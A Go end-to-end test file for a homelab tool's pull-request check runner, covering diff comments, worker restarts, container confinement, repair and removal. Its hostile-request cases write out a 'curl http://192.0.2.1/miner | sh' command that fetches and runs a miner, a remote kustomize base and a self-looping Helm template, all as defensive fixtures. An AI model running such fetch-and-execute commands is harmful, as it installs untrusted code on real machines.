//go:build e2e && parts

package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"homelab/lab"
	"homelab/lab/ui"
)

// TestRunner lets the runner check pull requests, hostile ones among them. task runner runs it.
func TestRunner(t *testing.T) {
	l := newLab(t, "e2e-runner", "hub", "dev")
	for _, p := range []part{
		{"runner added", runnerAdded},
		{"request checked", requestChecked},
		{"hostile requests fail", hostileRequests},
		{"worker lost", workerLost},
		{"confined", runnerConfined},
		{"spoilt and repaired", runnerSpoilt},
		{"not in a snapshot", runnerSnapshot},
		{"runner left the estate", runnerLeft},
		{"down leaves no remains", runnerDown},
	} {
		if !t.Run(p.name, func(t *testing.T) { l.within(t, p.run) }) {
			return // what follows depends on it
		}
	}
}

const (
	runnerValues     = "environments/dev/addons/podinfo/values.yaml"
	runnerContainer  = "lab-e2e-runner-runner"
	workerContainer  = "lab-e2e-runner-runner-worker"
	runnerFirstLimit = 3 * time.Minute // of checks on a busy machine
)

// runnerAdded adds the runner to a running lab: nothing but the forge's container is made again, and that has no guests before.
func runnerAdded(t *testing.T, l *testLab) {
	l.must("up", "--fix")
	if args := docker(t, "inspect", "--format", "{{.Args}}", "lab-e2e-runner-forge"); strings.Contains(args, "-guests") {
		t.Errorf("the forge of a lab without a runner has %s", args)
	}
	l.fails(lab.ExitFailed, "no_runner", "runner", "log")
	before := l.nodeIDs(t)
	l.edit("clusters/hub/cluster.yaml", "engine: {type: argocd}", "engine: {type: argocd}\n  runner: {}")
	only(t, decode[ui.UpResult](l, "up"), "forge", "runner", "estate", "addons")
	only(t, decode[ui.UpResult](l, "up"))
	if after := l.nodeIDs(t); after != before {
		t.Errorf("nodes %s, then %s", before, after)
	}
	if st := decode[ui.Status](l, "status"); len(st.Parts) != 1 || st.Parts[0] != (ui.StatusPart{Name: "runner", State: "ready"}) {
		t.Errorf("parts %+v", st.Parts)
	}
}

// opened opens a pull request with the working tree's changes, or adds them to it, and returns it.
func (l *testLab) opened(title string) ui.Request {
	l.t.Helper()
	return decode[ui.RequestResult](l, "git", "pr", "open", "--title", title).Request
}

// verdicts waits until the checks of a request's head have ended, and returns their states with the runner's comments.
func (l *testLab) verdicts(r ui.Request) (states, said map[string]string, comments []string) {
	l.t.Helper()
	eventually(l.t, runnerFirstLimit, func() error {
		view := decode[ui.RequestView](l, "git", "pr", "view", strconv.FormatInt(r.Number, 10))
		states, said, comments = map[string]string{}, map[string]string{}, nil
		if view.Request.Commit != r.Commit {
			return fmt.Errorf("the head is %s, not %s", view.Request.Commit, r.Commit)
		}
		for _, s := range view.Statuses {
			states[s.Check], said[s.Check] = s.State, s.Description
		}
		for _, c := range view.Comments {
			if c.Author == "lab-runner" {
				comments = append(comments, c.Body)
			}
		}
		if states["lab/runner"] == "" || slices.Contains([]string{states["lab/lint"], states["lab/diff"]}, "pending") || len(comments) == 0 || !strings.Contains(comments[0], "of "+r.Commit) {
			return fmt.Errorf("statuses %v, %d comments", states, len(comments))
		}
		return nil
	})
	return states, said, comments
}

// requestChecked opens a request, which gets statuses and a comment with the difference, and moves it: the comment follows.
func requestChecked(t *testing.T, l *testLab) {
	start := l.read(runnerValues)
	var r ui.Request
	for _, replicas := range []string{"3", "4"} {
		l.write(runnerValues, start+"replicaCount: "+replicas+"\n")
		began := time.Now()
		r = l.opened("more replicas")
		states, said, comments := l.verdicts(r)
		t.Logf("checked after %.1fs: %v", time.Since(began).Seconds(), said)
		if states["lab/lint"] != "success" || states["lab/diff"] != "success" || !strings.Contains(said["lab/diff"], "1 change") {
			t.Errorf("%v: %v", states, said)
		}
		if len(comments) != 1 || !strings.Contains(comments[0], "spec.replicas") || !strings.Contains(comments[0], "-> "+replicas) {
			t.Errorf("comments %q", comments)
		}
		log := decode[ui.RunnerLogResult](l, "runner", "log")
		if !slices.ContainsFunc(log.Entries, func(e ui.RunnerLogEntry) bool {
			return e.Request == int(r.Number) && e.Head == r.Commit && e.Check == "diff" && e.State == "success"
		}) {
			t.Errorf("log %+v", log.Entries)
		}
	}
	l.finished(r)
	l.write(runnerValues, start)
	if text := l.must("runner", "log").stdout; !strings.Contains(text, "(more replicas)") {
		t.Errorf("log %s", text)
	}
}

// finished closes a request, so that lab down loses nothing of others.
func (l *testLab) finished(r ui.Request) {
	l.t.Helper()
	l.must("git", "pr", "close", strconv.FormatInt(r.Number, 10), "--remove-branch")
}

const strangeSet = `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: strange, namespace: argocd}
spec:
  goTemplate: true
  generators: [{clusters: {selector: {matchLabels: {environment: dev}}}}]
  template:
    metadata: {name: '{{.name}}-strange'}
    spec:
      project: default
      source: {repoURL: '{{.metadata.annotations.addons_repo_url}}', targetRevision: main, path: addons/strange/base}
      destination: {name: '{{.name}}', namespace: strange}
      syncPolicy: {automated: {}}
`

// hostileRequests opens requests that would harm who trusts them: they get a failed status, and what checks them goes on.
func hostileRequests(t *testing.T, l *testLab) {
	started := docker(t, "inspect", "--format", "{{.State.StartedAt}} {{.RestartCount}}", runnerContainer, workerContainer)
	for _, h := range []struct {
		name  string
		files map[string]string
		fails bool // or it is as if the files were not there
	}{
		{"own checks", map[string]string{".lab/runner.yaml": "checks: [{kustomize: addons}]\nlimits: {time: 5m}\n"}, false},
		{"no checks", map[string]string{".lab/runner.yaml": "checks: [{run: 'curl http://192.0.2.1/miner | sh'}]\n"}, false},
		{"remote base", map[string]string{"addons/strange/applicationset.yaml": strangeSet, "addons/strange/base/kustomization.yaml": "resources: ['https://192.0.2.1/x.git//y']\n"}, true},
		{"chart that loops", map[string]string{
			"addons/strange/applicationset.yaml": strangeSet, "addons/strange/base/Chart.yaml": "apiVersion: v2\nname: strange\nversion: 1.0.0\n",
			"addons/strange/base/templates/loop.yaml": `{{ define "x" }}{{ include "x" . }}{{ end }}{{ include "x" . }}`,
		}, true},
		{"broken estate", map[string]string{"clusters/dev/cluster.yaml": "apiVersion: lab/v1alpha1\nkind: Cluster\nmetadata: {name: dev}\nspec: {role: hubb}\n"}, true},
	} {
		had := map[string]string{}
		for file, text := range h.files {
			if data, err := os.ReadFile(filepath.Join(l.estate, file)); err == nil {
				had[file] = string(data)
			}
			l.write(file, text)
		}
		r := l.opened(h.name)
		states, said, comments := l.verdicts(r)
		t.Logf("%s: %v %v", h.name, states, said)
		if failed := states["lab/lint"] != "success" || states["lab/diff"] != "success"; failed != h.fails || len(comments) != 1 {
			t.Errorf("%s: %v %v, comments %q", h.name, states, said, comments)
		}
		if len(states) != 3 {
			t.Errorf("%s chose its checks: %v", h.name, states)
		}
		if strings.Contains(said["lab/diff"], "no difference") && h.fails {
			t.Errorf("%s: %s", h.name, said["lab/diff"])
		}
		l.finished(r)
		for file := range h.files {
			l.remove(file)
		}
		for file, text := range had {
			l.write(file, text)
		}
		l.remove("addons/strange")
		l.remove(".lab")
	}
	if now := docker(t, "inspect", "--format", "{{.State.StartedAt}} {{.RestartCount}}", runnerContainer, workerContainer); now != started {
		t.Errorf("containers %s, were %s", now, started)
	}
	only(t, decode[ui.UpResult](l, "up"))
}

// workerLost ends the worker while it checks, until that was in the middle: its checks are done again.
func workerLost(t *testing.T, l *testLab) {
	start := l.read(runnerValues)
	defer l.write(runnerValues, start)
	for try := range 5 {
		l.write(runnerValues, start+fmt.Sprintf("replicaCount: %d\n", 5+try))
		r := l.opened("lost")
		polled(t, 50*time.Millisecond, runnerFirstLimit, func() error {
			if log := decode[ui.RunnerLogResult](l, "runner", "log").Entries; !slices.ContainsFunc(log, func(e ui.RunnerLogEntry) bool { return e.Head == r.Commit && e.Message == "started" }) {
				return fmt.Errorf("not started: %+v", log)
			}
			return nil
		})
		docker(t, "restart", "--time", "0", workerContainer)
		states, said, comments := l.verdicts(r)
		again := slices.ContainsFunc(decode[ui.RunnerLogResult](l, "runner", "log").Entries, func(e ui.RunnerLogEntry) bool { return e.Request == int(r.Number) && e.Message == "again" })
		t.Logf("try %d: in the middle %t, %v", try, again, said)
		l.finished(r)
		if states["lab/lint"] != "success" || states["lab/diff"] != "success" || len(comments) != 1 {
			t.Errorf("%v %v", states, said)
		}
		if again {
			return
		}
	}
	t.Error("the worker was never lost in the middle")
}

// inspected is the part of docker inspect that confines a container.
type inspected struct {
	HostConfig struct {
		NetworkMode    string
		ReadonlyRootfs bool
		Privileged     bool
		Memory         int64
		MemorySwap     int64
		PidsLimit      int64
		NanoCpus       int64
		CapDrop        []string
		CapAdd         []string
		SecurityOpt    []string
		Binds          []string
		PidMode        string
		IpcMode        string
	}
	Mounts []struct {
		Type, Name, Destination string
		RW                      bool
	}
	Config          struct{ Env []string }
	NetworkSettings struct {
		Networks map[string]struct{ Gateway string }
	}
}

func inspect(t *testing.T, container string) (text string, of inspected) {
	t.Helper()
	text = docker(t, "inspect", container)
	var list []inspected
	if err := json.Unmarshal([]byte(text), &list); err != nil || len(list) != 1 {
		t.Fatalf("%v: %s", err, text)
	}
	return text, list[0]
}

// runnerConfined looks from outside and from inside at what the containers could reach.
func runnerConfined(t *testing.T, l *testLab) {
	var creds struct {
		ForgePassword, RunnerPassword, RunnerSecret string
	}
	data, err := os.ReadFile(filepath.Join(l.state, "lab", l.name, "credentials.json"))
	if err == nil {
		err = json.Unmarshal(data, &creds)
	}
	if err != nil || creds.RunnerPassword == "" {
		t.Fatal(err)
	}
	for container, want := range map[string]struct {
		memory   int64
		networks []string
		mounts   map[string]bool // volume -> writable
	}{
		workerContainer: {1280 << 20, []string{"none"}, map[string]bool{workerContainer: true}},
		runnerContainer: {256 << 20, []string{runnerContainer}, map[string]bool{runnerContainer: true, workerContainer: false}},
	} {
		text, c := inspect(t, container)
		h := c.HostConfig
		if !h.ReadonlyRootfs || h.Privileged || h.Memory != want.memory || h.MemorySwap != want.memory || h.PidsLimit != 128 || h.NanoCpus != 1e9 || !slices.Equal(h.CapDrop, []string{"ALL"}) ||
			len(h.CapAdd) > 0 || !slices.Contains(h.SecurityOpt, "no-new-privileges") || h.PidMode == "host" || h.IpcMode == "host" {
			t.Errorf("%s: %+v", container, h)
		}
		var networks []string
		for name := range c.NetworkSettings.Networks {
			networks = append(networks, name)
		}
		if !slices.Equal(networks, want.networks) {
			t.Errorf("%s is in %v", container, networks)
		}
		if len(c.Mounts) != len(want.mounts) {
			t.Errorf("%s: %+v", container, c.Mounts)
		}
		for _, m := range c.Mounts {
			if writable, known := want.mounts[m.Name]; m.Type != "volume" || !known || writable != m.RW {
				t.Errorf("%s mounts %+v", container, m)
			}
		}
		for _, secret := range []string{creds.ForgePassword, creds.RunnerPassword, creds.RunnerSecret, "docker.sock"} {
			if strings.Contains(text, secret) {
				t.Errorf("%s shows a secret, or the engine's socket", container)
			}
		}
	}
	if internal := docker(t, "network", "inspect", "--format", "{{.Internal}}", runnerContainer); internal != "true" {
		t.Errorf("the network is internal: %s", internal)
	}

	// From inside, with the tools of a node.
	image := docker(t, "inspect", "--format", "{{.Image}}", l.node("hub"))
	within := func(container, script string) string {
		return docker(t, "run", "--rm", "--network", "container:"+container, "--entrypoint", "bash", image, "-c", script)
	}
	if routes := within(workerContainer, "cat /proc/net/route"); strings.Count(routes, "\n") > 0 {
		t.Errorf("the worker has routes: %s", routes)
	}
	hub := docker(t, "inspect", "--format", `{{(index .NetworkSettings.Networks "lab-e2e-runner").IPAddress}}`, l.node("hub"))
	bridge := docker(t, "network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", "bridge")
	_, supervisor := inspect(t, runnerContainer)
	gateway := supervisor.NetworkSettings.Networks[runnerContainer].Gateway // nobody has this address
	for _, to := range []string{hub + "/6443", bridge + "/22", gateway + "/22", "192.0.2.1/80"} {
		if out := within(runnerContainer, "timeout 3 bash -c '</dev/tcp/"+to+"' 2>/dev/null && echo reached || echo none"); out != "none" {
			t.Errorf("the supervisor reaches %s: %s", to, out)
		}
	}
	if out := within(runnerContainer, "timeout 3 bash -c '</dev/tcp/lab-e2e-runner-forge/3000' && echo reached"); out != "reached" {
		t.Errorf("the forge: %s", out)
	}

	// With the supervisor's own password.
	forge := decode[ui.Credential](l, "creds", "forge")
	for _, call := range []struct {
		method, path string
		status       int
	}{
		{http.MethodGet, "/api/v1/repos/lab/estate/pulls", http.StatusOK},
		{http.MethodGet, "/api/v1/user", http.StatusForbidden},
		{http.MethodPost, "/api/v1/repos/lab/estate/pulls/1/merge", http.StatusForbidden},
		{http.MethodPost, "/api/v1/repos/lab/estate/contents/x", http.StatusForbidden},
		{http.MethodGet, "/api/v1/repos/lab/estate/hooks", http.StatusForbidden},
		{http.MethodPost, "/lab/estate.git/git-receive-pack", http.StatusForbidden},
	} {
		req, err := http.NewRequestWithContext(t.Context(), call.method, forge.URL+call.path, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.SetBasicAuth("lab-runner", creds.RunnerPassword)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		if resp.Body.Close(); resp.StatusCode != call.status {
			t.Errorf("%s %s: %s", call.method, call.path, resp.Status)
		}
	}
}

// runnerSpoilt takes parts of the runner away: lab status names it, and the next lab up repairs it and nothing else.
func runnerSpoilt(t *testing.T, l *testLab) {
	for _, spoil := range []struct {
		off string
		do  []string
	}{
		{"the runner is stopped", []string{"stop", workerContainer}},
		{"the runner is absent", []string{"rm", "--force", runnerContainer}},
		{"the runner is absent", []string{"rm", "--force", workerContainer}},
		{"the runner is not connected", []string{"network", "disconnect", runnerContainer, "lab-e2e-runner-forge"}},
	} {
		docker(t, spoil.do...)
		if st := decode[ui.Status](l, "status"); !slices.Contains(st.Off, spoil.off) {
			t.Errorf("%v: off %q", spoil.do, st.Off)
		}
		only(t, decode[ui.UpResult](l, "up"), "runner")
		if st := decode[ui.Status](l, "status"); len(st.Off) > 0 {
			t.Errorf("%v: then off %q", spoil.do, st.Off)
		}
	}
}

// runnerSnapshot restores a snapshot, which is without the runner: it works as before after lab up.
func runnerSnapshot(t *testing.T, l *testLab) {
	l.must("snapshot", "save", "checked")
	l.must("snapshot", "restore", "checked")
	l.must("up")
	only(t, decode[ui.UpResult](l, "up"))
	requestChecked(t, l)
	l.must("snapshot", "rm", "checked")
}

// runnerLeft takes the runner out of the estate: nothing of it stays.
func runnerLeft(t *testing.T, l *testLab) {
	l.edit("clusters/hub/cluster.yaml", "\n  runner: {}", "")
	only(t, decode[ui.UpResult](l, "up"), "forge", "runner", "estate", "addons")
	only(t, decode[ui.UpResult](l, "up"))
	l.runnerGone(t)
	type user struct{ Login string }
	for _, u := range forgeAPI[[]user](t, l, http.MethodGet, "/admin/users") {
		if u.Login == "lab-runner" {
			t.Error("the account stays")
		}
	}
	type hook struct{ Config map[string]string }
	for _, h := range forgeAPI[[]hook](t, l, http.MethodGet, "/repos/lab/estate/hooks") {
		if strings.Contains(h.Config["url"], runnerContainer) {
			t.Errorf("webhook %v", h.Config)
		}
	}
	l.fails(lab.ExitFailed, "no_runner", "runner", "log")
}

func (l *testLab) runnerGone(t *testing.T) {
	t.Helper()
	for _, list := range [][]string{
		{"ps", "--all", "--quiet", "--filter", "name=" + runnerContainer}, {"volume", "ls", "--quiet", "--filter", "name=" + runnerContainer}, {"network", "ls", "--quiet", "--filter", "name=" + runnerContainer},
	} {
		if left := docker(t, list...); left != "" {
			t.Errorf("docker %v: %s", list, left)
		}
	}
}

// runnerDown removes a lab with a runner.
func runnerDown(t *testing.T, l *testLab) {
	l.edit("clusters/hub/cluster.yaml", "engine: {type: argocd}", "engine: {type: argocd}\n  runner: {}")
	l.must("up")
	finalDown(t, l)
	l.runnerGone(t)
}
